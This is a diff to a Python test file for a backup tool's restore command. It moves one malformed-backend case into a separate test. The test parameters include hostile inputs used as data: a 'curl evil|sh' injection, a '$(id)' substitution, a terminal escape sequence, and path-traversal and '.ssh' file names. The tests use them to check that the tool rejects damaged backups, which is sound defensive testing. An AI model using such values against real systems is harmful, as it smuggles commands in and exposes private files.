@@ -136,7 +136,6 @@ def check_start(directory: Path) -> None:
     "change",
     [
         {"backend": "disk; curl evil|sh"},
-        {"backend": "postgres:x"},
         {"created": "\x1b]0;PWN\x07"},
         {"version": "1 $(id)"},
         *({"files": {name: {"size": 0, "sha256": "0" * 64}}} for name in ("a", "a\0b", "t/x", "../t/0.log", ".ssh/id")),
@@ -148,6 +147,14 @@ def test_a_backups_words_are_known_words(change: dict[str, object], backup: Path
     done = nsqtw("restore", backup, tmp_path / "new")
     assert (done.returncode, done.stdout) == (1, "")
     assert done.stderr == f"nsqtw restore: {backup / CONTENTS_FILE} is damaged\n"
+
+
+def test_a_backup_of_a_backend_that_is_not_installed(backup: Path, tmp_path: Path) -> None:
+    contents = json.loads((backup / CONTENTS_FILE).read_text())
+    (backup / CONTENTS_FILE).write_text(json.dumps({**contents, "backend": "postgres:x"}))
+    done = nsqtw("restore", backup, tmp_path / "new")
+    why = "a backup of the backend 'postgres:x' cannot be used: the backend 'postgres' is not installed\n"
+    assert (done.returncode, done.stdout, done.stderr) == (1, "", f"nsqtw restore: {why}")
 
 
 def test_the_command_after_a_restore_is_one(backup: Path, tmp_path: Path) -> None:
